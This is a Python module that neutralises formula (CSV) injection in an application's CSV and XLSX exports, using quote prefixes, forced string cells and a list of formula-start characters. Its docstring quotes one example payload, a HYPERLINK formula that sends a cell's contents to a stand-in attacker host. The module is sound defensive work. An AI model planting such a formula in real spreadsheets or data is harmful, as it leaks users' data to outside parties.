"""Every CSV and XLSX file Beredd writes goes through this module, so no export can carry a live formula.

Free text (an assessment, a unit's name, a resident's name) that starts with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return is read as a formula by Excel, LibreOffice and Google Sheets (CSV injection, e.g.
``=HYPERLINK("https://evil.example/?"&A1;"Klicka")``). Following OWASP's "CSV Injection" guidance:

- **CSV**: such a cell is prefixed with a single quote (``'=HYPERLINK(...)``), which spreadsheets show as text;
  the csv module quotes cells that hold the delimiter, quotes or line breaks. Plain numbers written as text with a
  sign (``-5``, ``+46 70 123 45 67``) are left alone: without letters they cannot call a function or name a cell.
- **XLSX**: every string is written as a string cell (``t="s"``/inline string), never as a formula cell, and
  cells that would start a formula also get Excel's "quote prefix" style, so they stay text when edited.

A test (``core/tests/test_spreadsheet.py``) fails when a module outside this one uses ``csv.writer``,
``csv.DictWriter`` or openpyxl's ``Workbook`` directly.
"""

from __future__ import annotations

import csv
import datetime as dt
import decimal
import io
import re
from collections.abc import Iterable, Sequence
from typing import Any

# OWASP's list (= + - @ tab CR), line feed, and the full-width forms some spreadsheet locales also accept.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
# A signed number or phone number written as text: digits, spaces and . , ( ) / - + only.
_PLAIN_NUMBER = re.compile(r"[+\-]?[0-9 .,()/+\-]*[0-9][0-9 .,()/+\-]*")


def is_dangerous(value: str) -> bool:
    """True when a spreadsheet would read ``value`` as the start of a formula."""
    return bool(value) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value)


def neutralise(value: Any) -> Any:
    """The value as a CSV cell: ``None`` as "", numbers as they are, text that would start a formula prefixed
    with ``'``."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float | decimal.Decimal):
        return value
    text = value if isinstance(value, str) else str(value)
    return "'" + text if is_dangerous(text) else text


def restore(value: str) -> str:
    """Undo :func:`neutralise` on a cell read back from one of our exports (``'=x`` → ``=x``), so an exported
    register re-imports unchanged. Any other text is returned as it is."""
    if value.startswith("'") and is_dangerous(value[1:]):
        return value[1:]
    return value


def csv_text(header: Sequence[Any] | None, rows: Iterable[Sequence[Any]], *, delimiter: str = ",") -> str:
    """CSV text with every cell (the header too) neutralised."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter)
    if header is not None:
        writer.writerow([neutralise(v) for v in header])
    for row in rows:
        writer.writerow([neutralise(v) for v in row])
    return out.getvalue()


def csv_bytes(header: Sequence[Any] | None, rows: Iterable[Sequence[Any]], *, delimiter: str = ",") -> bytes:
    """UTF-8 CSV with a byte-order mark (so Excel opens Swedish characters correctly)."""
    return ("\ufeff" + csv_text(header, rows, delimiter=delimiter)).encode("utf-8")


def _xlsx_value(value: Any) -> Any:
    if value is None or isinstance(value, int | float | decimal.Decimal | dt.datetime | dt.date) and not isinstance(value, bool):
        return value
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    # Control characters other than tab and line breaks are not allowed in XLSX (openpyxl would raise).
    return ILLEGAL_CHARACTERS_RE.sub("", str(value))


def xlsx_bytes(header: Sequence[Any], rows: Iterable[Sequence[Any]], *, title: str) -> bytes:
    """A one-sheet workbook; strings are always string cells, never formulas."""
    from openpyxl import Workbook
    from openpyxl.cell.cell import Cell

    wb = Workbook()
    ws = wb.active
    assert ws is not None
    # Sheet names: at most 31 characters, none of []:*?/\ (Excel's rule).
    ws.title = re.sub(r"[\[\]:*?/\\]", " ", title)[:31] or "Sheet"
    for r, row in enumerate([header, *rows], start=1):
        for c, raw in enumerate(row, start=1):
            value = _xlsx_value(raw)
            cell = ws.cell(row=r, column=c)
            assert isinstance(cell, Cell)  # a fresh sheet has no merged cells
            cell.value = value
            if isinstance(value, str):
                # openpyxl makes any string starting with "=" a formula cell; force a string cell.
                cell.data_type = "s"
                if is_dangerous(value):
                    cell.quotePrefix = True
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


# --- Streaming writers (big exports: rows go to an open file one by one, never all in memory) -------------


def neutralise_row(values: Sequence[Any]) -> list[Any]:
    """:func:`neutralise` over a row, with the common cases (plain text, numbers, empty) inline: the background
    exports (``site.exports``) call it for every row of a national export."""
    starts = FORMULA_STARTS
    return [
        v
        if (kind := type(v)) is int or kind is float
        else ("'" + v if v and v.startswith(starts) and is_dangerous(v) else v)
        if kind is str
        else ""
        if v is None
        else neutralise(v)
        for v in values
    ]


class CsvStream:
    """UTF-8 CSV with a byte-order mark written row by row to a binary file (``delimiter`` as ``csv_bytes``)."""

    def __init__(self, out: Any, *, delimiter: str = ";") -> None:
        self._out = io.TextIOWrapper(out, encoding="utf-8", newline="")
        self._out.write("\ufeff")
        self._writer = csv.writer(self._out, delimiter=delimiter)

    def row(self, values: Sequence[Any]) -> None:
        self._writer.writerow(neutralise_row(values))

    def rows(self, rows: Iterable[Sequence[Any]]) -> None:
        """Every row of ``rows``, neutralised (one call for a batch: no per-row method calls in Python)."""
        self._writer.writerows(map(neutralise_row, rows))

    def close(self) -> None:
        self._out.flush()
        self._out.detach()


class XlsxStream:
    """One sheet in openpyxl's write-only mode (rows go to a temporary file, not memory); strings are string
    cells (write-only mode never makes a formula of a string), dangerous ones with the quote prefix style."""

    def __init__(self, out: Any, *, title: str) -> None:
        from openpyxl import Workbook

        self._out = out
        self._wb = Workbook(write_only=True)
        self._ws = self._wb.create_sheet(title=re.sub(r"[\[\]:*?/\\]", " ", title)[:31] or "Sheet")

    def row(self, values: Sequence[Any]) -> None:
        from openpyxl.cell import WriteOnlyCell

        cells: list[Any] = []
        for raw in values:
            value = _xlsx_value(raw)
            if isinstance(value, str):
                cell = WriteOnlyCell(self._ws, value=value)
                cell.data_type = "s"
                if is_dangerous(value):
                    cell.quotePrefix = True
                cells.append(cell)
            else:
                cells.append(value)
        self._ws.append(cells)

    def close(self) -> None:
        self._wb.save(self._out)
